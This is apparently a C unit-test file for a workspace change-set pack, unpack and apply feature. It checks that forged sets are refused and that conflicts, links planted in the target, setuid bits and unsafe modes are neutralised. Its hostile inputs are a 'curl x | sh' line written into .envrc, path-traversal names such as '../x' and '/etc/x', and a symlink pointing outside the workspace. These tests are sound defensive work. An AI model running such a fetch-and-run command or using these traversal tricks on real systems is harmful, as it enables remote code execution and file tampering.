/*
 * Change sets (cow_pack, cow_unpack: workspace/cow.h): a run's changes
 * carried to another machine's workspace, a copy of W at another path
 * with other inodes and times (W2 here), where apply knows each base by
 * content. Every kind of change goes through (W2 equals V after, and
 * again is "already applied"); a conflict by content refuses the whole
 * apply; a base the source workspace no longer held is a conflict; a
 * link planted in W2 is not followed; paths that run code on the host
 * and setuid bits are decided here, not by the set, and so are modes (a
 * forged 0777 is applied as the umask allows); a set over its
 * bound is refused; hostile sets are refused before anything is made.
 */
#include <sys/stat.h>

#include <errno.h>
#include <limits.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "workspace/cow.h"
#include "workspace/cow_int.h"
#include "workspace/cow_testapi.h"

#include "cow_apply_test.h"

/* W2, the other machine's workspace, and its unpacked set. */
struct t2 {
	char			 ws[PATH_MAX];
	char			 dir[PATH_MAX];	/* where the set unpacks */
	struct cow		 c;
	struct cow_changes	 ch;
};

/* Pack t's changes (W as the source workspace). */
static void *
t2_pack(struct t *t, size_t *len)
{
	void	*data;
	char	 err[512];

	if (cow_pack(&t->c, &t->ch, COW_PACK_MAX, &data, len, err,
	    sizeof(err)) != 0)
		fail_msg("cow_pack: %s", err);
	return data;
}

/* W2 as a copy of W made now (other inodes and times, same modes). */
static void
t2_copy(struct t *t, struct t2 *u)
{
	memset(u, 0, sizeof(*u));
	snprintf(u->ws, sizeof(u->ws), "%s/ws2", t->root);
	snprintf(u->dir, sizeof(u->dir), "%s/set", t->root);
	sh("cp -R --preserve=mode '%s' '%s'", t->ws, u->ws);
}

static void
t2_unpack(struct t2 *u, const void *data, size_t len)
{
	char	err[512];

	if (cow_unpack(data, len, u->dir, u->ws, &u->c, &u->ch, err,
	    sizeof(err)) != 0)
		fail_msg("cow_unpack: %s", err);
}

/* cow_apply of u's set: its return, the report in *report. */
static int
t2_apply(struct t2 *u, unsigned flags, char **report)
{
	return t_apply_set(&u->c, &u->ch, flags, report);
}

/* cow_diff of u's set against W2 now. */
static char *
t2_diff(struct t2 *u)
{
	char	*buf = NULL, err[512];
	size_t	 len = 0;
	FILE	*f;

	assert_non_null(f = open_memstream(&buf, &len));
	if (cow_diff(&u->c, &u->ch, f, 0, err, sizeof(err)) != 0)
		fail_msg("cow_diff: %s", err);
	assert_int_equal(fclose(f), 0);
	return buf;
}

static void
t2_close(struct t2 *u)
{
	char	err[512];

	if (u->c.dir[0] == '/' && cow_remove(&u->c, err, sizeof(err)) != 0)
		fail_msg("cow_remove: %s", err);
	cow_changes_free(&u->ch);
}

/* Every kind of change, applied to W2: W2 is V after; the diff shown
 * there is the one W shows; applied again, all is there already. */
static void
test_roundtrip(void **state)
{
	struct t	 t;
	struct t2	 u;
	void		*set;
	size_t		 len;
	char		*want, *got, *rep, *d1, *d2;
	char		 buf[2 * PATH_MAX];

	(void)state;
	t_open(&t);
	t_layout_all(&t);
	set = t2_pack(&t, &len);
	t2_copy(&t, &u);
	t2_unpack(&u, set, len);
	assert_int_equal(u.ch.n, t.ch.n);
	d1 = t_diff(&t, 0, NULL);
	d2 = t2_diff(&u);
	assert_string_equal(d2, d1);
	want = tree(t.view);
	assert_int_equal(t2_apply(&u, 0, &rep), 0);
	assert_non_null(strstr(rep, "changed mod.txt\n"));
	got = tree(u.ws);
	assert_string_equal(got, want);
	free(got);
	free(rep);
	assert_int_equal(t2_apply(&u, 0, &rep), 0);
	assert_non_null(strstr(rep, "already applied: mod.txt\n"));
	got = tree(u.ws);
	assert_string_equal(got, want);
	free(got);
	free(rep);
	free(want);
	free(d1);
	free(d2);
	free(set);
	t2_close(&u);
	snprintf(buf, sizeof(buf), "%s/set", t.root);
	assert_int_equal(access(buf, F_OK), -1);
	t_close(&t);
}

/* W2 differs from W where the run changed things: each path named, by
 * content, and nothing at all applied. */
static void
test_conflict(void **state)
{
	struct t	 t;
	struct t2	 u;
	void		*set;
	size_t		 len;
	char		*rep, *before, *after;

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo aaaa > a.txt && echo b > b.txt && echo x > x.sh "
	    "&& mkdir dir && echo c > dir/c.txt && echo g > gone.txt", t.ws);
	t_fork(&t);
	sh("cd '%s' && echo AAAA > a.txt && echo B > b.txt && echo n > "
	    "new.txt && echo X > x.sh && rm -r dir gone.txt", t.view);
	t_changes(&t);
	set = t2_pack(&t, &len);
	t2_copy(&t, &u);
	/* Same size, other bytes: only the content tells. */
	sh("cd '%s' && echo aaab > a.txt && echo mine > new.txt && "
	    "chmod u+x x.sh && echo extra > dir/extra && echo G > gone.txt",
	    u.ws);
	t2_unpack(&u, set, len);
	before = tree(u.ws);
	assert_int_equal(t2_apply(&u, 0, &rep), 1);
	assert_non_null(strstr(rep, "conflict: a.txt: its content differs "
	    "from the run's base\n"));
	assert_non_null(strstr(rep, "conflict: new.txt: it was created in the "
	    "workspace since the run started\n"));
	assert_non_null(strstr(rep, "conflict: x.sh: its mode changed\n"));
	assert_non_null(strstr(rep, "conflict: dir: the directory holds "
	    "extra"));
	assert_non_null(strstr(rep, "conflict: gone.txt: its content differs"));
	assert_null(strstr(rep, "b.txt"));
	assert_non_null(strstr(rep, "nothing applied (5 conflicts, 0 refused)"));
	after = tree(u.ws);
	assert_string_equal(after, before);
	free(rep);
	free(before);
	free(after);
	free(set);
	t2_close(&u);
	t_close(&t);
}

/* The source workspace changed under a path after the run began: its
 * base is packed unknown, a conflict on W2, unless W2 already holds the
 * run's version. */
static void
test_unknown_base(void **state)
{
	struct t	 t;
	struct t2	 u;
	void		*set;
	size_t		 len, i;
	char		*rep;

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo a > a.txt && echo b > b.txt", t.ws);
	t_fork(&t);
	sh("cd '%s' && echo A > a.txt && echo B > b.txt", t.view);
	t_changes(&t);
	t2_copy(&t, &u);
	sh("cd '%s' && echo user > a.txt", t.ws);
	set = t2_pack(&t, &len);
	t2_unpack(&u, set, len);
	for (i = 0; i < u.ch.n; i++)
		assert_int_equal(u.ch.v[i].base_by, strcmp(u.ch.v[i].path,
		    "a.txt") == 0 ? COW_BASE_UNKNOWN : COW_BASE_SUM);
	assert_int_equal(t2_apply(&u, 0, &rep), 1);
	assert_non_null(strstr(rep, "conflict: a.txt: the machine that ran it "
	    "could not record its base"));
	free(rep);
	sh("cd '%s' && echo A > a.txt", u.ws);
	assert_int_equal(t2_apply(&u, 0, &rep), 0);
	assert_non_null(strstr(rep, "already applied: a.txt\n"));
	assert_non_null(strstr(rep, "changed b.txt\n"));
	free(rep);
	free(set);
	t2_close(&u);
	t_close(&t);
}

/* A link planted in W2 on a changed path: not followed, the file
 * outside stays as it was. */
static void
test_planted_link(void **state)
{
	struct t	 t;
	struct t2	 u;
	void		*set;
	size_t		 len;
	char		*rep, *before, *after, out[PATH_MAX + 16];

	(void)state;
	t_open(&t);
	snprintf(out, sizeof(out), "%s/outside", t.root);
	sh("mkdir '%s' && echo f > '%s/f.txt' && cd '%s' && mkdir d && "
	    "echo f > d/f.txt", out, out, t.ws);
	t_fork(&t);
	sh("cd '%s' && echo F > d/f.txt && echo new > d/new.txt", t.view);
	t_changes(&t);
	set = t2_pack(&t, &len);
	t2_copy(&t, &u);
	sh("cd '%s' && rm -r d && ln -s '%s' d", u.ws, out);
	t2_unpack(&u, set, len);
	before = tree(out);
	assert_int_equal(t2_apply(&u, 0, &rep), 1);
	assert_non_null(strstr(rep, "conflict: d/f.txt: a directory on its "
	    "path is now a link or not a directory\n"));
	after = tree(out);
	assert_string_equal(after, before);
	free(rep);
	free(before);
	free(after);
	free(set);
	t2_close(&u);
	t_close(&t);
}

/* .envrc is left out without the flag, whatever the set says; a setuid
 * bit the layer had is not applied. */
static void
test_host_decides(void **state)
{
	struct t	 t;
	struct t2	 u;
	struct stat	 sb;
	void		*set;
	size_t		 len, i;
	char		*rep, p[2 * PATH_MAX];

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo plain > plain.txt && echo r > run", t.ws);
	t_fork(&t);
	sh("cd '%s' && echo changed > plain.txt && echo 'curl x | sh' > "
	    ".envrc && chmod 4755 run", t.view);
	t_changes(&t);
	for (i = 0; i < t.ch.n; i++)
		t.ch.v[i].sensitive = NULL;	/* what a set cannot carry */
	set = t2_pack(&t, &len);
	t2_copy(&t, &u);
	t2_unpack(&u, set, len);
	assert_int_equal(t2_apply(&u, 0, &rep), 0);
	assert_non_null(strstr(rep, "left out: .envrc: runs on the host: "));
	assert_non_null(strstr(rep, "not applied: the setuid or setgid bit of "
	    "run\n"));
	snprintf(p, sizeof(p), "%s/.envrc", u.ws);
	assert_int_equal(access(p, F_OK), -1);
	snprintf(p, sizeof(p), "%s/run", u.ws);
	assert_int_equal(stat(p, &sb), 0);
	assert_int_equal(sb.st_mode & 07777, 0755);
	free(rep);
	free(set);
	t2_close(&u);
	t_close(&t);
}

/* Over the bound: 1, said, nothing handed back; a 3 MB binary file
 * under it goes through whole. */
static void
test_bound(void **state)
{
	struct t	 t;
	struct t2	 u;
	void		*set;
	size_t		 len;
	char		 err[512], *want, *got;

	(void)state;
	t_open(&t);
	sh("cd '%s' && head -c 3000000 /dev/urandom > big.bin", t.ws);
	t_fork(&t);
	sh("cd '%s' && head -c 3000001 /dev/urandom > big.bin", t.view);
	t_changes(&t);
	set = (void *)1;
	assert_int_equal(cow_pack(&t.c, &t.ch, 1000000, &set, &len, err,
	    sizeof(err)), 1);
	assert_null(set);
	assert_non_null(strstr(err, "over 1000000 bytes at big.bin"));
	set = t2_pack(&t, &len);
	assert_true(len > 3000001 && len < 3001000);
	t2_copy(&t, &u);
	t2_unpack(&u, set, len);
	want = tree(t.view);
	assert_int_equal(t2_apply(&u, 0, NULL), 0);
	got = tree(u.ws);
	assert_string_equal(got, want);
	free(got);
	free(want);
	free(set);
	t2_close(&u);
	t_close(&t);
}

/*
 * The bound at its edge, for each way the last change ends (a deletion:
 * its fixed part; a link: its target; a file: its bytes): a set of L
 * bytes packs whole with max L, and is refused with max L - 1.
 */
static void
test_bound_exact(void **state)
{
	static const char *const last[] = {
		"rm z", "rm z && ln -s target-of-z z", "echo changed > z",
	};
	struct t	 t;
	void		*set;
	size_t		 i, len, len2;
	char		 err[512];

	(void)state;
	for (i = 0; i < sizeof(last) / sizeof(last[0]); i++) {
		t_open(&t);
		sh("cd '%s' && echo z > z", t.ws);
		t_fork(&t);
		sh("cd '%s' && echo new > a.txt && %s", t.view, last[i]);
		t_changes(&t);
		set = t2_pack(&t, &len);
		free(set);
		if (cow_pack(&t.c, &t.ch, len, &set, &len2, err,
		    sizeof(err)) != 0)
			fail_msg("%s: a set of %zu bytes refused with max %zu: "
			    "%s", last[i], len, len, err);
		assert_int_equal(len2, len);
		free(set);
		set = (void *)1;
		if (cow_pack(&t.c, &t.ch, len - 1, &set, &len2, err,
		    sizeof(err)) != 1)
			fail_msg("%s: a set of %zu bytes taken with max %zu",
			    last[i], len, len - 1);
		assert_null(set);
		t_close(&t);
	}
}

/* A hand-made set of n new empty files, "0000000" on, in order. */
static unsigned char *
many_set(size_t n, size_t *len)
{
	const size_t	 per = 1 + 1 + 4 + COW_SUM_LEN + 4 + 2 + 7 + 4;
	unsigned char	*b, *q;
	char		 name[24];
	size_t		 i, k;

	*len = 12 + n * per;
	assert_non_null(b = calloc(1, *len));
	memcpy(b, "WRNCHG1\n", 8);
	for (k = 0; k < 4; k++)
		b[8 + k] = (unsigned char)(n >> (8 * k));
	for (i = 0, q = b + 12; i < n; i++) {
		q[0] = 1;			/* added, no base */
		q += 2 + 4 + COW_SUM_LEN;
		for (k = 0; k < 4; k++)
			q[k] = (unsigned char)((S_IFREG | 0644) >> (8 * k));
		q += 4;
		q[0] = 7;
		q += 2;
		snprintf(name, sizeof(name), "%07zu", i);
		memcpy(q, name, 7);
		q += 7 + 4;			/* no bytes */
	}
	return b;
}

/* The most changes a set may hold (COW_MAX_ENTRIES, docs/workspaces.md:
 * 1,000,000) is taken; one more is refused. */
static void
test_entries_max(void **state)
{
	unsigned char	*b;
	size_t		 len;
	char		 err[512];

	(void)state;
	b = many_set(COW_MAX_ENTRIES, &len);
	if (cow_unpack_check(b, len, err, sizeof(err)) != 0)
		fail_msg("a set of %d changes: %s", COW_MAX_ENTRIES, err);
	free(b);
	b = many_set(COW_MAX_ENTRIES + 1, &len);
	assert_int_equal(cow_unpack_check(b, len, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "more changes than"));
	free(b);
}

static mode_t
t_mode_at(const char *dir, const char *path)
{
	struct stat	sb;
	char		p[2 * PATH_MAX];

	snprintf(p, sizeof(p), "%s/%s", dir, path);
	assert_int_equal(lstat(p, &sb), 0);
	return sb.st_mode & 07777;
}

/* A hand-made set: the fields of cow_pack_int.h. */
struct set {
	unsigned char	b[8192];
	size_t		len;
	unsigned	n;
};

static void
set_int(struct set *s, uint64_t v, size_t n)
{
	size_t	i;

	for (i = 0; i < n; i++)
		s->b[s->len++] = (unsigned char)(v >> (8 * i));
}

static void
set_begin(struct set *s)
{
	memset(s, 0, sizeof(*s));
	memcpy(s->b, "WRNCHG1\n", 8);
	s->len = 12;
}

static void
set_add(struct set *s, int kind, int by, uint32_t bmode, uint32_t nmode,
    const char *path, size_t plen, const char *data, size_t dlen)
{
	set_int(s, (uint64_t)kind, 1);
	set_int(s, (uint64_t)by, 1);
	set_int(s, bmode, 4);
	memset(s->b + s->len, 0, COW_SUM_LEN);
	s->len += COW_SUM_LEN;
	set_int(s, nmode, 4);
	set_int(s, plen, 2);
	memcpy(s->b + s->len, path, plen);
	s->len += plen;
	set_int(s, dlen, 4);
	memcpy(s->b + s->len, data, dlen);
	s->len += dlen;
	s->n++;
	s->b[8] = (unsigned char)s->n;
}

/* Refused by the check and by unpack, which makes nothing. */
static void
set_refused(const struct set *s, const char *why, const char *root)
{
	struct cow_changes	ch;
	struct cow		c;
	char			err[512], dir[PATH_MAX];

	if (cow_unpack_check(s->b, s->len, err, sizeof(err)) != -1)
		fail_msg("a set with %s was taken", why);
	if (strstr(err, why) == NULL)
		fail_msg("%s: said \"%s\"", why, err);
	snprintf(dir, sizeof(dir), "%s/set", root);
	assert_int_equal(cow_unpack(s->b, s->len, dir, "/nonexistent", &c,
	    &ch, err, sizeof(err)), -1);
	assert_int_equal(access(dir, F_OK), -1);
}

static void
test_hostile(void **state)
{
	static const struct {
		int		 kind, by;
		uint32_t	 bmode, nmode;
		const char	*path, *data, *why;
	} bad[] = {
		{ 1, 0, 0, S_IFREG | 0644, "../x", "", "its path" },
		{ 1, 0, 0, S_IFREG | 0644, "/etc/x", "", "its path" },
		{ 1, 0, 0, S_IFREG | 0644, "a//b", "", "its path" },
		{ 1, 0, 0, S_IFREG | 0644, "a/./b", "", "its path" },
		{ 1, 0, 0, S_IFREG | 0644, "a/", "", "its path" },
		{ 1, 0, 0, S_IFREG | 0644, "", "", "its path" },
		{ 9, 0, 0, S_IFREG | 0644, "x", "", "unknown kind" },
		{ 2, 0, S_IFREG | 0644, S_IFREG | 0644, "x", "", "its base" },
		{ 2, 1, 0170000, S_IFREG | 0644, "x", "", "its base" },
		{ 1, 1, 0, S_IFREG | 0644, "x", "", "its base" },
		{ 1, 0, 0, 0170000 | 0644, "x", "", "its new mode" },
		{ 2, 1, S_IFREG | 0644, 0, "x", "", "its new mode" },
		{ 4, 1, 0, S_IFREG | 0644, "x", "", "its base" },
		{ 1, 0, 0, S_IFIFO | 0644, "x", "d", "its data" },
		{ 1, 0, 0, S_IFREG | 0644 | 0100000000, "x", "",
		    "its new mode" },
		{ 3, 1, S_IFREG | 0644, S_IFREG | 0644, "x", "",
		    "its new mode" },
		{ 1, 0, 0, S_IFLNK | 0777, "x", "", "its data" },
		{ 1, 0, 0, S_IFDIR | 0755, "x", "data", "its data" },
		{ 3, 1, S_IFREG | 0644, 0, "x", "data", "its data" },
	};
	struct t	 t;
	struct set	 s;
	char		 err[512];
	size_t		 i;

	(void)state;
	t_open(&t);
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		set_begin(&s);
		set_add(&s, bad[i].kind, bad[i].by, bad[i].bmode, bad[i].nmode,
		    bad[i].path, strlen(bad[i].path), bad[i].data,
		    strlen(bad[i].data));
		set_refused(&s, bad[i].why, t.root);
	}
	set_begin(&s);
	set_add(&s, 1, 0, 0, S_IFLNK | 0777, "l", 1, "a\0b", 3);
	set_refused(&s, "its data", t.root);
	set_begin(&s);
	set_add(&s, 1, 0, 0, S_IFREG | 0644, "a\0b", 3, "", 0);
	set_refused(&s, "its path", t.root);
	set_begin(&s);
	set_add(&s, 1, 0, 0, S_IFREG | 0644, "b", 1, "", 0);
	set_add(&s, 1, 0, 0, S_IFREG | 0644, "a", 1, "", 0);
	set_refused(&s, "out of order", t.root);
	set_begin(&s);
	set_add(&s, 1, 0, 0, S_IFREG | 0644, "a", 1, "", 0);
	set_add(&s, 1, 0, 0, S_IFREG | 0644, "a", 1, "", 0);
	set_refused(&s, "given twice", t.root);
	set_begin(&s);
	set_add(&s, 1, 0, 0, S_IFREG | 0644, "a", 1, "x", 1);
	s.b[s.len++] = 0;
	set_refused(&s, "bytes after the last change", t.root);
	s.len -= 2;
	set_refused(&s, "ends early", t.root);
	s.b[8] = 0xff, s.b[9] = 0xff, s.b[10] = 0xff;
	set_refused(&s, "more changes than its bytes hold", t.root);
	memcpy(s.b, "WRNCHG2\n", 8);
	set_refused(&s, "a newer warren's", t.root);
	/* The good ones the bad ones were made from; what cow_changes
	 * makes of a FIFO, a directory it may not read, an overlay
	 * redirect (apply refuses them, the set is not damaged). */
	set_begin(&s);
	set_add(&s, 1, 0, 0, S_IFREG | 0644, "a", 1, "x", 1);
	set_add(&s, 1, 0, 0, S_IFLNK | 0777, "a.l", 3, "a", 1);
	set_add(&s, 1, 0, 0, S_IFIFO | 0644, "f", 1, "", 0);
	set_add(&s, 4, 0, 0, S_IFDIR | 0000, "g", 1, "", 0);
	set_add(&s, 4, 2, S_IFREG | 0644, S_IFREG | 0644, "h", 1, "", 0);
	assert_int_equal(cow_unpack_check(s.b, s.len, err, sizeof(err)), 0);
	t_close(&t);
}

/*
 * The longest link target there is (PATH_MAX bytes with its NUL, the most
 * readlink and symlink take): packed, unpacked and applied to W2 whole. A
 * hand-made set's target of PATH_MAX bytes, one more, is refused before
 * anything is made.
 */
static void
test_link_target_max(void **state)
{
	struct t	 t;
	struct t2	 u;
	struct set	 s;
	void		*set;
	size_t		 len;
	char		*rep, target[PATH_MAX + 1], got[PATH_MAX + 1];
	char		 p[2 * PATH_MAX], err[512];
	ssize_t		 n;

	(void)state;
	memset(target, 'x', PATH_MAX);
	target[PATH_MAX - 1] = '\0';
	t_open(&t);
	t_fork(&t);
	snprintf(p, sizeof(p), "%s/long.l", t.view);
	assert_int_equal(symlink(target, p), 0);
	t_changes(&t);
	set = t2_pack(&t, &len);
	t2_copy(&t, &u);
	t2_unpack(&u, set, len);
	assert_int_equal(t2_apply(&u, 0, &rep), 0);
	assert_non_null(strstr(rep, "created long.l\n"));
	snprintf(p, sizeof(p), "%s/long.l", u.ws);
	assert_int_equal(n = readlink(p, got, sizeof(got)), PATH_MAX - 1);
	assert_memory_equal(got, target, PATH_MAX - 1);
	free(rep);
	free(set);
	t2_close(&u);

	set_begin(&s);
	set_add(&s, 1, 0, 0, S_IFLNK | 0777, "l", 1, target, PATH_MAX - 1);
	if (cow_unpack_check(s.b, s.len, err, sizeof(err)) != 0)
		fail_msg("a target of PATH_MAX - 1 bytes: %s", err);
	target[PATH_MAX - 1] = 'x';
	set_begin(&s);
	set_add(&s, 1, 0, 0, S_IFLNK | 0777, "l", 1, target, PATH_MAX);
	set_refused(&s, "its data", t.root);
	t_close(&t);
}

/*
 * The longest path a change may carry: PATH_MAX - 1 bytes (with its NUL,
 * PATH_MAX, what cow_changes can make), taken by the check; one byte
 * more is refused as its path before anything is made, never cut short
 * to another path.
 */
static void
test_path_max(void **state)
{
	struct t	 t;
	struct set	 s;
	char		 path[PATH_MAX + 1], err[512];
	size_t		 i;

	(void)state;
	/* Parts of 199 bytes: no part longer than NAME_MAX, none empty. */
	for (i = 0; i < PATH_MAX; i++)
		path[i] = (i + 1) % 200 == 0 ? '/' : 'p';
	t_open(&t);
	set_begin(&s);
	set_add(&s, 1, 0, 0, S_IFREG | 0644, path, PATH_MAX - 1, "x", 1);
	if (cow_unpack_check(s.b, s.len, err, sizeof(err)) != 0)
		fail_msg("a path of PATH_MAX - 1 bytes: %s", err);
	set_begin(&s);
	set_add(&s, 1, 0, 0, S_IFREG | 0644, path, PATH_MAX, "x", 1);
	set_refused(&s, "its path", t.root);
	t_close(&t);
}

/* A forged set's 0777 directory and script, 0666 file and 1777
 * directory: applied as the umask allows, never writable by others. */
static void
test_forged_modes(void **state)
{
	static const mode_t	 masks[] = { 022, 077, 0 };
	struct t		 t;
	struct set		 s;
	struct t2		 u;
	size_t			 k;
	mode_t			 m, old;
	char			*rep;

	(void)state;
	set_begin(&s);
	set_add(&s, 1, 0, 0, S_IFDIR | 0777, "d", 1, "", 0);
	set_add(&s, 1, 0, 0, S_IFREG | 0777, "d/s.sh", 6, "echo\n", 5);
	set_add(&s, 1, 0, 0, S_IFREG | 0666, "f", 1, "f\n", 2);
	set_add(&s, 1, 0, 0, S_IFDIR | 01777, "sd", 2, "", 0);
	for (k = 0; k < sizeof(masks) / sizeof(masks[0]); k++) {
		m = masks[k];
		t_open(&t);
		memset(&u, 0, sizeof(u));
		snprintf(u.ws, sizeof(u.ws), "%s", t.ws);
		snprintf(u.dir, sizeof(u.dir), "%s/set", t.root);
		t2_unpack(&u, s.b, s.len);
		old = umask(m);
		assert_int_equal(t2_apply(&u, 0, &rep), 0);
		umask(old);
		free(rep);
		assert_int_equal(t_mode_at(u.ws, "d"), 0775 & ~m);
		assert_int_equal(t_mode_at(u.ws, "d/s.sh"), 0775 & ~m);
		assert_int_equal(t_mode_at(u.ws, "f"), 0664 & ~m);
		assert_int_equal(t_mode_at(u.ws, "sd"), 0775 & ~m);
		t2_close(&u);
		t_close(&t);
	}
}

/* The directory a set unpacks in must be ours and 0700. */
static void
test_dir_checked(void **state)
{
	struct t		 t;
	struct set		 s;
	struct cow_changes	 ch;
	struct cow		 c;
	char			 dir[PATH_MAX + 8], err[512];

	(void)state;
	t_open(&t);
	set_begin(&s);
	set_add(&s, 1, 0, 0, S_IFREG | 0644, "a", 1, "x", 1);
	snprintf(dir, sizeof(dir), "%s/set", t.root);
	assert_int_equal(mkdir(dir, 0755), 0);
	assert_int_equal(cow_unpack(s.b, s.len, dir, t.ws, &c, &ch, err,
	    sizeof(err)), -1);
	assert_non_null(strstr(err, "not a directory of ours with mode 0700"));
	assert_int_equal(chmod(dir, 0700), 0);
	assert_int_equal(cow_unpack(s.b, s.len, dir, t.ws, &c, &ch, err,
	    sizeof(err)), 0);
	cow_changes_free(&ch);
	/* Again over what the first left: data/ made afresh. */
	assert_int_equal(cow_unpack(s.b, s.len, dir, t.ws, &c, &ch, err,
	    sizeof(err)), 0);
	assert_int_equal(ch.n, 1);
	assert_non_null(ch.v[0].src);
	cow_changes_free(&ch);
	assert_int_equal(cow_remove(&c, err, sizeof(err)), 0);
	t_close(&t);
}

/* A FIFO the run left: packed, and refused by apply on the other
 * machine as on this one (not taken for a damaged set). */
static void
test_fifo_refused(void **state)
{
	struct t	 t;
	struct t2	 u;
	void		*set;
	size_t		 len, i;
	char		*rep, *before, *after;
	int		 k;

	(void)state;
	t_open(&t);
	sh("cd '%s' && echo a > a", t.ws);
	t_fork(&t);
	sh("cd '%s' && echo A > a && mkfifo pipe", t.view);
	t_changes(&t);
	t2_copy(&t, &u);
	before = tree(u.ws);
	for (k = 0; k < 2; k++) {
		/* k = 1: as cow_changes lists it, unsupported, no base. */
		for (i = 0; k == 1 && i < t.ch.n; i++)
			if (strcmp(t.ch.v[i].path, "pipe") == 0)
				t.ch.v[i].kind = COW_UNSUPPORTED;
		set = t2_pack(&t, &len);
		t2_unpack(&u, set, len);
		assert_int_equal(t2_apply(&u, 0, &rep), 1);
		assert_non_null(strstr(rep, "refused: pipe: a FIFO"));
		after = tree(u.ws);
		assert_string_equal(after, before);
		free(rep);
		free(after);
		free(set);
		t2_close(&u);
	}
	free(before);
	t_close(&t);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_roundtrip),
		cmocka_unit_test(test_conflict),
		cmocka_unit_test(test_unknown_base),
		cmocka_unit_test(test_planted_link),
		cmocka_unit_test(test_host_decides),
		cmocka_unit_test(test_bound),
		cmocka_unit_test(test_hostile),
		cmocka_unit_test(test_link_target_max),
		cmocka_unit_test(test_path_max),
		cmocka_unit_test(test_bound_exact),
		cmocka_unit_test(test_entries_max),
		cmocka_unit_test(test_dir_checked),
		cmocka_unit_test(test_forged_modes),
		cmocka_unit_test(test_fifo_refused),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
